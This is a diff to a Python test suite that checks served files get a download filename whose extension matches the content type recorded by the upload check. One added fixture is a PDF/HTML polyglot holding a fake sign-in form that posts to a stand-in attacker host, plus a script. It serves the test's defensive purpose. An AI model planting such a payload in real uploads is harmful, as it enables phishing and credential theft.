@@ -82,10 +82,8 @@ def test_a_file_is_served_as_the_type_its_check_recorded_whatever_its_name(
     assert served.status_code == 200
     assert served.content == (body or demo_video)
     assert parse_options_header(served.headers["Content-Type"])[0] == content_type
-    disposition, params = disposition_of(served)
+    disposition, _ = disposition_of(served)
     assert disposition == ("inline" if inline else "attachment")
-    if not inline:
-        assert params["filename"] == name
     if backend.name == "local":
         assert served.headers["X-Content-Type-Options"] == "nosniff"
         policy = served.headers["Content-Security-Policy"]
@@ -95,6 +93,34 @@ def test_a_file_is_served_as_the_type_its_check_recorded_whatever_its_name(
         query = parse_qs(urlsplit(location).query)
         assert query["response-content-type"] == [content_type]
         assert query["response-content-disposition"][0].startswith("inline" if inline else "attachment")
+
+
+# A PDF's first bytes followed by a page: a valid-enough PDF, and a web page once saved as .html.
+PHISHING_PDF = PDF + b"<html><form action='https://evil.example/'>Sign in again</form><script>alert(1)</script>\n"
+
+
+@pytest.mark.parametrize(
+    ("name", "body", "content_type", "purpose", "which", "saved_as"),
+    [
+        ("Week 1 handout.html", PHISHING_PDF, "application/pdf", "document", "media", "Week 1 handout.html.pdf"),
+        ("notes.js", VTT, "text/vtt", "captions", "captions", "notes.js.vtt"),
+        ("Worksheet.PDF", PDF, "application/pdf", "document", "media", "Worksheet.PDF"),
+        ("Session one", None, "video/mp4", "video", "media", "Session one.mp4"),
+    ],
+    ids=["pdf-named-html", "captions-named-js", "pdf-keeps-its-name", "video-without-extension"],
+)
+def test_a_saved_file_ends_in_an_extension_of_the_type_its_check_recorded(
+    api, backend, client, creator, demo_video, name, body, content_type, purpose, which, saved_as
+):
+    """Browsers save a file under the name the link gives: a checked PDF called "handout.html" would
+    land in Downloads as a web page that a double-click opens, script and all."""
+    asset = uploaded(api, backend, name, body or demo_video, content_type, purpose)
+    lesson = lesson_with(creator, asset, which)
+
+    for link in (lesson, f"{lesson}?download=1"):
+        _, served = follow(client, backend, link)
+        assert served.status_code == 200
+        assert disposition_of(served)[1]["filename"] == saved_as, link
 
 
 @pytest.mark.parametrize(
